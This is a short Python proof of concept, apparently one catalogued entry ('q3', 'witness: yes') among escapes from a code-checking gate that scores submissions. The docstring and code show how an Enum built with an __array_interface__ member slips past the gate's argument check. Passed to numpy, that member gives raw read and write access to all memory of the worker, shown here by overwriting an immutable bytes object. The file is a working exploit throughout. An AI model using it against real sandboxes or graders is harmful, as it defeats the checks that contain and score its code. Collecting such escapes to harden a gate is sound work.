"""A: a class factory. Enum("X", {...}) takes any names with two underscores, __array_interface__ for one, and
the class is not among the gate's own, so that check_arguments lets its members pass; members are read by X["A"].
np.asarray of such a member is an array over any address (id() is allowed): it reads and writes all memory of the
worker. At load its use is not even kept. Here it changes a bytes object, which is immutable.
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside
from enum import Enum

import numpy as np
import torch.nn as nn

text = b"hello world"
X = Enum(
    "X",
    {
        "__array_interface__": {"data": (id(text) + 32, False), "shape": (5,), "typestr": "|u1", "version": 3},
        "A": 1,
    },
)
np.asarray(X["A"])[:] = 65
print("a bytes object is now", text)


class CustomMaxPool2D(nn.Module):
    pass
